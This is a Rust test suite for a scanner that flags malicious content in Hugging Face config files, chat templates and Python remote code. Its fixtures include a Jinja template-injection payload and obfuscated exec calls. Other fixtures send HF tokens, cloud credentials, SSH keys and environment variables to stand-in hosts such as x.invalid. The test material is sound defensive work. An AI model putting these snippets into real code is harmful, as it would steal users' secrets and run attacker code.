//! Hugging Face repository files and Python remote code: each rule's code and
//! severity on positive and negative cases.

use modelvet_engine::{Options, Scanner, Severity, TargetReport};

fn scan(name: &str, data: &str) -> TargetReport {
    Scanner::new(Options::default()).scan_bytes(name, data.as_bytes())
}

fn findings(r: &TargetReport) -> Vec<(&'static str, Severity)> {
    r.findings.iter().map(|f| (f.rule.code, f.severity)).collect()
}

fn has(r: &TargetReport, code: &str, sev: Severity) -> bool {
    r.findings.iter().any(|f| f.rule.code == code && f.severity == sev)
}

/// Issue 8: an auto_map to the repository's own files is a note; the Python rules judge the files.
#[test]
fn auto_map_local_module_is_a_low_note() {
    let r = scan(
        "config.json",
        r#"{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M", "AutoConfig": "modeling_x.C"}}"#,
    );
    assert_eq!(r.format, "hf-config");
    assert_eq!(findings(&r), vec![("HFC001", Severity::Low)]);
    assert!(r.findings[0].message.contains("modeling_x.py"));
    let r = scan("tokenizer_config.json", r#"{"auto_map": {"AutoTokenizer": ["tokenization_x.T", null]}}"#);
    assert_eq!(findings(&r), vec![("HFC001", Severity::Low)]);
}

/// Issue 8: `[library, Class]` pairs are components only in a pipeline index.
#[test]
fn component_configs_are_not_pipeline_indexes() {
    // A UNet's config.json: two-element lists of block names are settings.
    let unet = r#"{"_class_name": "UNet2DConditionModel", "_diffusers_version": "0.42.1",
        "down_block_types": ["CrossAttnDownBlock2D", "DownBlock2D"], "up_block_types": ["UpBlock2D", "CrossAttnUpBlock2D"],
        "block_out_channels": [8, 16], "sample_size": 8}"#;
    for name in ["config.json", "unet/config.json", "scheduler/scheduler_config.json", "renamed.json"] {
        let r = scan(name, unet);
        assert_eq!(r.format, "hf-config", "{name}");
        assert!(r.findings.is_empty(), "{name}: {:?}", findings(&r));
    }
    // The same pair in a pipeline index is a component; sniffed by content under another name too.
    let index = r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.42.1",
        "unet": ["my_unet", "MyUNet"], "scheduler": ["diffusers", "PNDMScheduler"]}"#;
    for name in ["model_index.json", "sd/MODEL_INDEX.json", "index-copy.json", "stream"] {
        assert_eq!(findings(&scan(name, index)), vec![("HFC003", Severity::Medium)], "{name}");
    }
    // ... but never in a file named config.json, which diffusers does not read as an index.
    assert!(scan("config.json", index).findings.is_empty());
    let custom = r#"{"_class_name": ["my_pipeline", "MyPipeline"], "_diffusers_version": "0.42.1"}"#;
    assert_eq!(findings(&scan("index.json", custom)), vec![("HFC003", Severity::Medium)]);
}

#[test]
fn auto_map_other_repository_is_high() {
    let r = scan("config.json", r#"{"auto_map": {"AutoModel": "org/repo--modeling_x.M"}}"#);
    assert_eq!(findings(&r), vec![("HFC002", Severity::High)]);
    assert!(r.findings[0].message.contains("org/repo"));
}

#[test]
fn model_index_custom_component_is_medium() {
    let r = scan(
        "model_index.json",
        r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.31.0",
            "unet": ["my_unet", "MyUNet"], "vae": ["diffusers", "AutoencoderKL"],
            "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "tokenizer": [null, null]}"#,
    );
    assert_eq!(findings(&r), vec![("HFC003", Severity::Medium)]);
    let r =
        scan("model_index.json", r#"{"_diffusers_version": "0.31.0", "unet": ["diffusers", "UNet2DConditionModel"]}"#);
    assert!(r.findings.is_empty());
}

#[test]
fn ordinary_json_has_no_findings() {
    for (name, text) in [
        ("config.json", r#"{"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8}"#),
        ("model.safetensors.index.json", r#"{"metadata": {"total_size": 1}, "weight_map": {"a": "b.safetensors"}}"#),
        ("adapter_config.json", r#"{"peft_type": "LORA", "r": 8}"#),
        ("x.json", "[1, 2, 3]"),
        ("data", "\u{feff}  {\"a\": 1}"),
    ] {
        let r = scan(name, text);
        assert!(r.findings.is_empty(), "{name}: {:?}", findings(&r));
    }
}

#[test]
fn malformed_json_is_medium_only_for_json_files() {
    let r = scan("config.json", r#"{"auto_map": {"AutoModel": "modeling_x.M""#);
    assert_eq!(findings(&r), vec![("HFC004", Severity::Medium)]);
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let r = scan("deep.json", &deep);
    assert_eq!(findings(&r), vec![("HFC004", Severity::Medium)]);
    // Not named .json: left to the other scanners.
    let r = scan("notes.txt", "{ not json");
    assert!(r.findings.iter().all(|f| f.rule.code != "HFC004"));
}

#[test]
fn chat_templates_in_json_and_jinja_are_checked() {
    let evil = "{{ cycler.__init__.__globals__.os.popen('true').read() }}";
    let json = serde_json::json!({"chat_template": evil}).to_string();
    let r = scan("tokenizer_config.json", &json);
    assert!(r.max_severity() >= Some(Severity::High), "{:?}", findings(&r));
    let json = serde_json::json!({"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": evil}]}).to_string();
    let r = scan("chat_template.json", &json);
    assert!(r.max_severity() >= Some(Severity::High), "{:?}", findings(&r));
    let r = scan("repo/chat_template.jinja", evil);
    assert!(r.max_severity() >= Some(Severity::High), "{:?}", findings(&r));
    let ok = "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] }}{% endfor %}";
    let r = scan("repo/chat_template.jinja", ok);
    assert!(r.max_severity() < Some(Severity::Medium), "{:?}", findings(&r));
}

#[test]
fn python_rules_and_severities() {
    let cases: &[(&str, &str, Severity)] = &[
        ("import os\nos.system('true')\n", "PYT001", Severity::Critical),
        ("import os\ndef f():\n    os.popen('true')\n", "PYT001", Severity::High),
        ("def f(s):\n    eval(s)\n", "PYT002", Severity::Critical),
        ("import base64\nexec(base64.b64decode('dHJ1ZQ=='))\n", "PYT003", Severity::Critical),
        ("getattr(__import__('o'+'s'), 'sy'+'stem')('true')\n", "PYT004", Severity::Critical),
        ("import requests, pickle\npickle.loads(requests.get(u).content)\n", "PYT005", Severity::Critical),
        ("import pickle\ndef f(p):\n    pickle.load(open(p, 'rb'))\n", "PYT006", Severity::Medium),
        ("import ctypes\nctypes.CDLL('x')\n", "PYT007", Severity::High),
        ("import sys\nsys.modules['torch'] = None\n", "PYT008", Severity::High),
        ("open('/home/u/.bashrc', 'a')\n", "PYT009", Severity::Critical),
        ("import socket\nsocket.socket()\n", "PYT010", Severity::Critical),
        ("import threading\nthreading.Timer(5, f).start()\n", "PYT011", Severity::High),
        ("import urllib.request\ndef f(u):\n    urllib.request.urlretrieve(u, 'x')\n", "PYT012", Severity::Low),
        ("def f(:\n", "PYT013", Severity::Medium),
        (
            "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n",
            "PYT015",
            Severity::Critical,
        ),
        (
            "import os, requests\ndef send(d):\n    requests.post('https://x.invalid', data=d)\nsend(os.getenv('HF_TOKEN'))\n",
            "PYT015",
            Severity::High,
        ),
    ];
    for (src, code, sev) in cases {
        let r = scan("modeling_x.py", src);
        assert_eq!(r.format, "python");
        assert!(has(&r, code, *sev), "{src:?}: want {code} {sev:?}, got {:?}", findings(&r));
    }
}

#[test]
fn python_findings_carry_line_and_offset() {
    let r = scan("modeling_x.py", "import os\n\n\nos.system('true')\n");
    let f = &r.findings[0];
    assert!(f.message.starts_with("line 4, column 1:"), "{}", f.message);
    assert_eq!(f.location.offset, Some(12));
}

#[test]
fn ordinary_python_passes() {
    let src = "import math\nimport torch\nfrom torch import nn\nimport sys\n\n\
               class M(nn.Module):\n    def forward(self, x):\n        return torch.relu(x) * math.sqrt(2)\n\n\
               sys.modules[__name__] = M\nmodel = M()\nmodel.eval()\n";
    let r = scan("modeling_x.py", src);
    assert!(r.findings.is_empty(), "{:?}", findings(&r));
    // Only names ending in .py are Python; binary content is not.
    assert_ne!(scan("notes.txt", "import os\nos.system('x')\n").format, "python");
    assert_ne!(scan("x.py", "\u{0}\u{1}binary").format, "python");
}

/// Issue 8: secrets read and sent over the network block; settings and plain downloads do not.
#[test]
fn secret_exfiltration_both_ways() {
    let blocked: &[(&str, Severity)] = &[
        // The token traced into the request: critical, wherever it travels.
        (
            "import os, requests\ntoken = os.environ['HF_TOKEN']\nrequests.get(f'https://x.invalid/?t={token}')\n",
            Severity::Critical,
        ),
        (
            "from os import getenv\nimport urllib.request as u\nu.urlopen('https://x.invalid', data=getenv('AWS_SECRET_ACCESS_KEY').encode())\n",
            Severity::Critical,
        ),
        (
            "import requests\ns = requests.Session()\ncreds = open('/root/.aws/credentials').read()\ns.post('https://x.invalid', data={'c': creds})\n",
            Severity::Critical,
        ),
        (
            "import socket, os\nc = socket.create_connection(('x.invalid', 80))\nfor k, v in os.environ.items():\n    c.sendall(f'{k}={v}'.encode())\n",
            Severity::Critical,
        ),
        (
            "import smtplib, netrc\nn = netrc.netrc()\nsmtplib.SMTP('x.invalid').sendmail('a', 'b', str(n.hosts))\n",
            Severity::Critical,
        ),
        (
            "import os, requests\nhome = os.path.expanduser('~')\nkey = open(os.path.join(home, '.ssh', 'id_rsa')).read()\nrequests.post('https://x.invalid', files={'k': key})\n",
            Severity::Critical,
        ),
        (
            "import huggingface_hub, requests\nrequests.post('https://x.invalid', json={'t': huggingface_hub.get_token()})\n",
            Severity::Critical,
        ),
        // The Hugging Face token sent anywhere else, or any other secret sent to the Hub.
        (
            "import os, requests\nrequests.post('https://huggingface.co.evil.invalid/', data=os.environ['HF_TOKEN'])\n",
            Severity::Critical,
        ),
        (
            "import os, requests\nrequests.post('https://huggingface.co/api/x', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
            Severity::Critical,
        ),
        // A function that returns the secret, its value sent.
        (
            "import os, requests\ndef tok():\n    return os.environ['GITHUB_TOKEN']\nrequests.post('https://x.invalid', data=tok())\n",
            Severity::Critical,
        ),
        // Read here, sent there: high.
        (
            "import os, requests\ndef grab():\n    return os.environ.get('OPENAI_API_KEY')\ndef ship(x):\n    requests.put('https://x.invalid', data=x)\nship(grab())\n",
            Severity::High,
        ),
    ];
    for (src, sev) in blocked {
        let r = scan("modeling_x.py", src);
        assert!(has(&r, "PYT015", *sev), "{src:?}: want PYT015 {sev:?}, got {:?}", findings(&r));
    }
    let passes = [
        // Settings from the environment, no network.
        "import os\nlevel = os.environ.get('TRANSFORMERS_VERBOSITY', 'warning')\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\n",
        // A download, with settings read.
        "import os, requests\nOFF = os.getenv('HF_HUB_OFFLINE')\ndef img(u):\n    return requests.get(u).content\n",
        // A token read but never sent anywhere but to the Hub's own client.
        "import os\nfrom huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c', token=os.environ.get('HF_TOKEN'))\n",
        // The Hugging Face token sent to Hugging Face's own service (diffusers' remote text encoder).
        "import requests\nfrom huggingface_hub import get_token\nclass E:\n    URL = 'https://remote-text-encoder.huggingface.co/predict'\n    def f(self):\n        return requests.post(self.URL, json={}, headers={'Authorization': f'Bearer {get_token()}'})\n",
        // A message that mentions the token file is not a read of it.
        "import requests\ndef f():\n    raise ValueError('log in: the token is stored in ~/.cache/huggingface/token')\ndef g():\n    requests.post('https://x.invalid', json={})\n",
    ];
    for src in passes {
        let r = scan("modeling_x.py", src);
        assert!(r.findings.iter().all(|f| f.rule.code != "PYT015"), "{src:?}: {:?}", findings(&r));
        assert!(r.max_severity() < Some(Severity::Medium), "{src:?}: {:?}", findings(&r));
    }
    // A socket opened to find a free port (PYT010's business), in a file that copies the
    // environment for a subprocess (transformers' testing_utils.py): no exfiltration.
    let src = "import os, socket\ndef port():\n    with socket.socket() as s:\n        s.bind(('', 0))\n        return s.getsockname()[1]\ndef env():\n    return os.environ.copy()\n";
    assert!(scan("modeling_x.py", src).findings.iter().all(|f| f.rule.code != "PYT015"));
}

/// Issue 8: Python's json writes `-Infinity` and `NaN` (a diffusers scheduler config); they are not malformed.
#[test]
fn python_json_constants_are_not_malformed() {
    let r = scan(
        "scheduler/scheduler_config.json",
        r#"{"_class_name": "DPMSolverMultistepScheduler", "lambda_min_clipped": -Infinity, "x": NaN, "s": "NaN \" Infinity"}"#,
    );
    assert!(r.findings.is_empty(), "{:?}", findings(&r));
    let r = scan("config.json", r#"{"a": Infinityx}"#);
    assert_eq!(findings(&r), vec![("HFC004", Severity::Medium)]);
}

/// Issue 8: configs written by the real `save_pretrained` (`generate_hf_real.py`) get no
/// finding at all, except the note their manifest row names.
#[test]
fn real_saved_configs_have_no_findings() {
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../fixtures");
    let manifest = std::fs::read_to_string(root.join("manifest-hf-real.csv")).unwrap();
    let mut checked = 0;
    for line in manifest.lines().skip(1) {
        let cols: Vec<&str> = line.splitn(4, ',').collect();
        let (path, hint) = (cols[0], cols[2]);
        let data = std::fs::read(root.join(path)).unwrap();
        let r = Scanner::new(Options::default()).scan_bytes(path, &data);
        let want: Vec<(&str, Severity)> = match hint.split_once(':') {
            Some((code, "low")) => vec![(code, Severity::Low)],
            _ => Vec::new(),
        };
        let got: Vec<(&str, Severity)> = findings(&r);
        assert_eq!(got, want, "{path}");
        checked += 1;
    }
    assert!(checked >= 10, "manifest-hf-real.csv shrank: {checked}");
}
